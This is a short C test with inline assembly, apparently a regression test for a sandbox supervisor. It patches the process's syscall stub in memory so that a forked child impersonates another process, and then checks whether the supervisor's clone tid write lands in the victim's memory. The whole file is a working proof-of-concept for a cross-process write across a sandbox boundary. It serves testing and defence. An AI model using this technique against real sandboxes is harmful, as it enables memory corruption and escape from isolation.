/* A forked child says that it is another process: then the sentry's writes for it would land there. */
#include "stub.h"

static volatile u32 target;
static volatile u32 victim_host_pid;

/* Takes the place of the code that loads the words of BORN. */
void thunk(void);
extern char thunk_ring[];
__asm__("thunk:\n\tmov victim_host_pid(%rip), %r13d\n\tmov $0x101, %r14d\n\tmovabs $0x1122334455667788, %r8\n"
	"thunk_ring:\n\tjmp *%r8\n");

static void patch_stub(void)
{
	/* xor %r13d, %r13d; mov $0x101, %r14d; jmp ring */
	u64 at = find("\x45\x31\xed\x41\xbe\x01\x01\x00\x00\xe9", 10);
	if (!at || sys(SYS_mprotect, STUB_TEXT, 4096, 7, 0, 0, 0))
		leave(98);
	u64 ring = at + 14 + *(int *)(at + 10);
	u64 page = (u64)thunk & ~4095ul;
	if (sys(SYS_mprotect, page, 8192, 7, 0, 0, 0))
		leave(97);
	*(u64 *)(thunk_ring - 8) = ring;
	unsigned char jump[13] = {0x49, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0x41, 0xff, 0xe0};
	*(u64 *)(jump + 2) = (u64)thunk;
	for (int i = 0; i < 13; i++)
		((volatile unsigned char *)at)[i] = jump[i];
}

static int main_(int argc, char **argv)
{
	i64 victim = sys(SYS_fork, 0, 0, 0, 0, 0, 0);
	if (victim == 0) {
		for (int i = 0; i < 3000000 && !target; i++)
			sys(SYS_sched_yield, 0, 0, 0, 0, 0, 0);
		print(target ? "overwritten\n" : "untouched\n");
		leave(0);
	}
	/* The attacker may know host pids: its patched stub sees what clone returns. Here the test tells. */
	while (!(victim_host_pid = sys(TEST_CALL, victim, 0, 0, 0, 0, 0)))
		;
	patch_stub();
	/* fork with CHILD_SETTID: the sentry writes the child's tid into the child. */
	i64 child;
	register u64 r10 __asm__("r10") = (u64)&target;
	__asm__ volatile("syscall" : "=a"(child) : "a"(SYS_clone), "D"(0x1000000 | 17), "S"(0), "d"(0), "r"(r10)
			 : "rcx", "r11", "memory");
	if (child == 0) {
		print(target ? "child set\n" : "child unset\n");
		leave(0);
	}
	int status = 0;
	sys(SYS_wait4, -1, (u64)&status, 0, 0, 0, 0);
	sys(SYS_wait4, -1, (u64)&status, 0, 0, 0, 0);
	return 0;
}
